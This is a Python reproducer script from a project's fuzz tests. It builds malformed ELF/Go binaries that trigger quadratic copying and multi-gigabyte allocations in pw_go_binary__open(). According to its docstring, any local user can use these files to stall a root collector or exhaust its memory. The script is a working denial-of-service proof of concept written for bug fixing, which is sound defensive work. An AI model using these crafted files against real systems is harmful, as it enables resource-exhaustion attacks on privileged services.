#!/usr/bin/env python3
# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
"""Reproducers for two resource bugs of pw_go_binary__open() (user/goruntime.c)
found while writing fuzz_gobinary (tests/fuzz/results.md). Neither fits a
fuzz corpus: one needs a file of megabytes, the other a sparse file of
gigabytes, and both would hang every fuzz run until fixed.

  python3 tests/fuzz/repro_goruntime_dos.py scan SIZE OUT
      No section headers, a read-only segment of SIZE bytes holding a
      pcHeader every 72 bytes that passes pw_gopclntab__new()'s header checks
      but has an unsorted ftab. find_pclntab()'s magic scan calls
      pw_gopclntab__new() on each, which copies the rest of the segment before
      it checks the ftab: O(SIZE^2 / 72) bytes copied. On the 2-core test
      machine (busy; -O1, no sanitizer) 1 MiB took 0.2 s to open, 4 MiB 8 s:
      16x per doubling, so 64 MiB would take half an hour.

  python3 tests/fuzz/repro_goruntime_dos.py sparse GIB OUT
      tests/fuzz/corpus/gobinary/raw_full (a valid go1.19 binary) with
      .gopclntab's sh_size set to GIB GiB and the file extended sparsely: a
      16 KiB file on disk whose open mallocs and copies GIB GiB (the pclntab
      is copied whole). 1 GiB: 20-100 s and 2 GiB of RSS per open.

  python3 tests/fuzz/repro_goruntime_dos.py sparse-segment MIB OUT
      raw_full with its read-only segment (pclntab, then the funcdata at
      moduledata.gofunc) grown sparsely to MIB MiB: pw_go_binary__open
      copies everything from gofunc to the end of the segment
      (pw_gopclntab__set_gofunc), MIB MiB per open, before it fails on
      runtime.allgs. 748decb bounded the pclntab copy (scan, sparse) but not
      this one.

parkwatch opens /proc/PID/exe of every process with parked threads when
goroutines are read (collect.c go_attach), so any local user can stall or
exhaust the memory of the (root) collector by running such a file.
"""
import struct, sys

def scan(size, out):
    bi = b'\xff Go buildinf:' + bytes([8, 2]) + bytes(16)
    ver = b'go1.19.8'
    bi += bytes([len(ver)]) + ver + b'\0'
    # nfunc 1, every table at 72: the ftab is the next header (0xfffffff0 > 0x08010000).
    hdr = struct.pack('<IBBBBqQQQQQQQ', 0xfffffff0, 0, 0, 1, 8, 1, 1, 0x401000, 72, 72, 72, 72,
                      72)
    ro = bytearray(hdr * (size // 72))
    ro += bytes(size - len(ro))
    ro_off = 0x1000
    rw_off = ro_off + size
    rw_off += (-rw_off) % 0x1000
    f = bytearray(ro_off) + ro
    f += bytes(rw_off - len(f)) + bi
    eh = struct.pack('<16sHHIQQQIHHHHHH', b'\x7fELF\x02\x01\x01' + bytes(9), 2, 62, 1, 0x401000,
                     64, 0, 0, 64, 56, 2, 64, 0, 0)
    ph = struct.pack('<IIQQQQQQ', 1, 4, ro_off, 0x600000, 0x600000, size, size, 0x1000)
    ph += struct.pack('<IIQQQQQQ', 1, 6, rw_off, 0x900000, 0x900000, len(bi), len(bi), 0x1000)
    f[0:64] = eh
    f[64:64 + len(ph)] = ph
    open(out, 'wb').write(f)

def sparse_segment(mib, out):
    d = open('tests/fuzz/corpus/gobinary/raw_full', 'rb').read()
    n = struct.unpack('<I', d[1:5])[0]
    f = bytearray(d[5:5 + n])
    ph = 64 + 56 * 1  # program header 1: the read-only segment (pclntab, gofunc)
    off = struct.unpack('<Q', f[ph + 8:ph + 16])[0]
    big = mib << 20
    f[ph + 32:ph + 40] = struct.pack('<Q', big)  # p_filesz
    f[ph + 40:ph + 48] = struct.pack('<Q', big)  # p_memsz
    # Move the writable segment past it (the moduledata search reads its file
    # bytes, not its address); runtime.allgs is then outside it and the open
    # fails, but only after the copy.
    rw = 64 + 56 * 2
    f[rw + 16:rw + 24] = struct.pack('<Q', 0x7f0000000)  # p_vaddr
    f[rw + 24:rw + 32] = struct.pack('<Q', 0x7f0000000)  # p_paddr
    open(out, 'wb').write(f)
    if off + big > len(f):
        with open(out, 'r+b') as fh:
            fh.truncate(off + big)

def sparse(gib, out):
    d = open('tests/fuzz/corpus/gobinary/raw_full', 'rb').read()
    n = struct.unpack('<I', d[1:5])[0]
    f = bytearray(d[5:5 + n])
    shoff = struct.unpack('<Q', f[0x28:0x30])[0]
    sh = shoff + 64 * 2  # section 2 is .gopclntab
    off = struct.unpack('<Q', f[sh + 24:sh + 32])[0]
    big = gib << 30
    f[sh + 32:sh + 40] = struct.pack('<Q', big)
    open(out, 'wb').write(f)
    with open(out, 'r+b') as fh:
        fh.truncate(off + big + 4096)

if __name__ == '__main__':
    modes = {'scan': scan, 'sparse': sparse, 'sparse-segment': sparse_segment}
    if len(sys.argv) != 4 or sys.argv[1] not in modes:
        sys.exit(__doc__)
    modes[sys.argv[1]](int(sys.argv[2]), sys.argv[3])
